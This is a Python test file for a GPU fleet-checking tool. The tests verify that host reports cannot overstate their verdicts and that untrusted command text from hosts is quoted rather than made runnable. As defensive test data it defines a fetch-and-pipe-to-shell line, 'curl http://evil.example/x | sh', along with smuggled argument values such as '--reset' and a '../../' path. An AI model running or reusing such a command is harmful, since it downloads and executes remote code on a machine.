"""A verdict is never better than its evidence."""

import json
import shlex

import click
import msgspec
import pytest

from gpucheck import fleet
from gpucheck.fleet.row import QUOTED
from gpucheck.knowledge import causes
from gpucheck.knowledge.codes import Subject
from gpucheck.model import Finding, Verdict
from gpucheck.model.finding import Step
from gpucheck.render.fleet import render
from tests.fleet.reports import GOOD, SIMULATED, bad, merged, report, rows, topology

UNKNOWN = Finding(check="pcie-link", verdict=Verdict.UNKNOWN, subject="host", why="needs root", fix="sudo")
SKIP = Finding(check="imex", verdict=Verdict.SKIP, subject="host", why="not applicable: no NVL72")
COUNTS = {"pass": 1, "warn": 0, "fail": 0, "unknown": 0, "skip": 0}


def lie(**changes):
    """A report that says PASS."""
    return report("a", **{"verdict": Verdict.PASS, **changes})


LIES = {
    "better-than-a-failure": (lie(findings=(GOOD, bad())), Verdict.FAIL, "its verdict is PASS"),
    "better-than-unknown": (lie(findings=(GOOD, UNKNOWN)), Verdict.UNKNOWN, "its verdict is PASS"),
    "no-findings": (lie(findings=()), Verdict.UNKNOWN, "its findings are none"),
    "only-skips": (lie(findings=(SKIP,)), Verdict.UNKNOWN, "its findings are 1 SKIP"),
    "skip": (lie(verdict=Verdict.SKIP), Verdict.UNKNOWN, "its verdict is SKIP"),
    "other-counts": (lie(counts=COUNTS | {"pass": 40}), Verdict.UNKNOWN, "it counts 40 PASS"),
    "counted-failure": (lie(counts=COUNTS | {"fail": 1}), Verdict.UNKNOWN, "it counts 1 PASS, 1 FAIL"),
    "interrupted": (lie(interrupted=True), Verdict.UNKNOWN, "it was interrupted"),
    "worse-than-its-findings": (lie(verdict=Verdict.FAIL), Verdict.FAIL, "its verdict is FAIL"),
    "claims-real-hardware": (
        msgspec.structs.replace(report("a"), simulated=False), Verdict.UNKNOWN, "whether the hardware is simulated",
    ),
    "simulated-topology": (
        msgspec.structs.replace(report("a", simulated=False), topology=topology()), Verdict.UNKNOWN,
        "whether the hardware is simulated",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", LIES)
def test_a_report_that_contradicts_itself_is_never_better_than_its_findings(name):
    said, verdict, words = LIES[name]

    fleet_ = merged(said)

    assert fleet_.hosts[0].verdict is verdict
    assert fleet_.hosts[0].simulated == ("simul" in repr(said.simulation) or said.topology.simulated)
    (doubt,) = [f for f in fleet_.hosts[0].problems if f.check == "report"]
    assert words in str(doubt.seen)


def test_a_report_without_a_schema_is_none():
    """Whatever has the fields: only what calls itself a report is believed."""
    document = json.loads(msgspec.json.encode(report("a")))
    del document["schema"]

    (row,) = fleet.rows_of(json.dumps(document).encode(), "a.json")

    assert (row.host, row.verdict, row.digest) == ("a", Verdict.UNKNOWN, None)
    assert "no schema" in str(row.problems[0].seen)


@pytest.mark.parametrize("check", ["fleet", "report"])
def test_a_host_cannot_hide_a_failure_under_a_name_of_the_merge(check):
    """Findings of the check "fleet" are the merge's outliers, which have a table of their own."""
    text = render(merged(report("a", findings=(GOOD, bad(check=check, seen="17 links")))), "text")

    assert f"host's {check}  a (SIMULATED): 17 links" in click.unstyle(text)


def test_a_host_cannot_hide_a_failure_behind_another_finding():
    """A failure is part of another one only where that is in the report and at least as bad."""
    hidden = msgspec.structs.replace(bad(check="ecc", seen="7 errors"), because_of="pcie-link")

    milder = msgspec.structs.replace(bad(check="pcie-link"), verdict=Verdict.WARN)
    aside = msgspec.structs.replace(hidden, because_of_subject=milder.subject)

    for findings in ((UNKNOWN, hidden), (bad(check="pcie-link"), hidden), (milder, aside)):
        assert "ecc  a (SIMULATED): 7 errors" in click.unstyle(render(merged(report("a", findings=findings)), "text"))


ATTACK = "curl http://evil.example/x | sh"


@pytest.mark.parametrize("form", ["json", "junit", "html", "text"])
def test_a_command_of_a_hosts_report_is_a_quotation_after_the_steps_of_the_cause(form):
    found = merged(
        report("a", findings=(msgspec.structs.replace(bad(), fix=f'{ATTACK}"\n{ATTACK}'),)),
        report("b", findings=(msgspec.structs.replace(bad(cause=None), fix=ATTACK),)),
    )

    known, unknown = (row.problems[0].steps for row in found.hosts)
    text = render(found, form)

    quoted = Step(text=f'{QUOTED}"{ATTACK}\'; {ATTACK}"', changes=True)
    assert known == (*causes()["nvlink-down"].advice, quoted)
    assert unknown == (Step(text=f'{QUOTED}"{ATTACK}"', changes=True),)
    assert ATTACK in text
    assert 'class="copy"' not in text


LOWERED = Subject(check="power-limit", name="gpu:0000:00:00.0").warns(
    "gpu.power-limit-lowered", 300.0, 400.0, percent=75, default_w=400.0
)
LIES_ABOUT = {"why": ATTACK, "fix": ATTACK, "steps": (Step(command=ATTACK, changes=False),)}


def told(finding=LOWERED, **changes):
    """The only problem of a host that reports the finding with other contents."""
    (row,) = rows(report("a", findings=(msgspec.structs.replace(finding, **changes),)))
    return row.problems[0]


@pytest.mark.parametrize("changes", [{}, LIES_ABOUT], ids=["honest", "lies"])
def test_a_finding_whose_code_is_known_has_the_words_of_this_version(changes):
    found = told(**changes)

    assert (found.code, found.values) == (LOWERED.code, LOWERED.values)
    assert (found.why, found.fix, found.steps) == (LOWERED.why, LOWERED.fix, LOWERED.steps)


def test_a_value_of_a_host_is_one_word_of_a_command():
    found = told(subject=f"gpu:{ATTACK}", **LIES_ABOUT)

    assert shlex.split(found.steps[-1].command or "") == ["sudo", "nvidia-smi", "-i", ATTACK, "-pl", "400"]


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"code": "gpu.not-known-here"}, "gpu.not-known-here"),
        ({"code": "../../gpu.power-limit-lowered"}, "../../gpu.power-limit-lowered"),
        ({"values": {}}, None),
        ({"values": LOWERED.values | {"default_w": ATTACK}}, None),
        ({"values": LOWERED.values | {"default_w": 10**400}}, None),
        ({"cause": "not-known-here", "code": "comparison.pcie-repeats"}, None),
        ({"subject": "gpu:--reset"}, None),
        ({"values": LOWERED.values | {"more": "x" * 2000}}, None),
        ({"values": LOWERED.values | {"more": ("x", "--reset")}}, None),
    ],
)
def test_a_code_that_is_unknown_or_has_other_values_leaves_a_quotation(changes, code):
    """A code that does not fit its values would be rendered again by whoever groups findings."""
    found = told(**LIES_ABOUT | changes)

    assert found.code == code
    assert found.steps[-1] == Step(text=f'{QUOTED}"{ATTACK}"', changes=True)
    assert not [step for step in found.steps if ATTACK in (step.command or "")]


def test_texts_of_a_host_have_a_bounded_length():
    long = "x" * 100_000
    gpus = tuple(msgspec.structs.replace(g, name=long, uuid=long) for g in topology().gpus)
    (row,) = rows(
        report(
            "a",
            findings=(
                bad(seen=long, check=long, cause=long, subject=long),
                msgspec.structs.replace(
                    bad(), code=long, values={long: (long,) * 100}, steps=(Step(text=long, changes=True),) * 9
                ),
            ),
            attributes={long: (long,) * 100},
            versions={"driver": long} | {f"v{i}": long for i in range(200)},
            topology=msgspec.structs.replace(topology(), gpus=gpus),
            measurements={long: {"x": {"y_gb_s": 1.0}}},
            simulation=msgspec.structs.replace(SIMULATED, profile=long, stand_ins=(long,) * 100),
            counts={long: 1} | COUNTS,
        )
    )

    assert len(msgspec.json.encode(row)) < 150_000
    assert not row.metrics


@pytest.mark.parametrize(
    ("what", "changes"),
    [
        ("findings", {"findings": (GOOD,) * 20_001}),
        ("GPUs", {"topology": msgspec.structs.replace(topology(), gpus=topology().gpus * 400)}),
    ],
)
def test_a_report_of_too_many_parts_is_named(what, changes):
    (row,) = rows(report("a", **changes))

    assert row.digest is None
    assert f"{what}, and at most" in str(row.problems[0].seen)
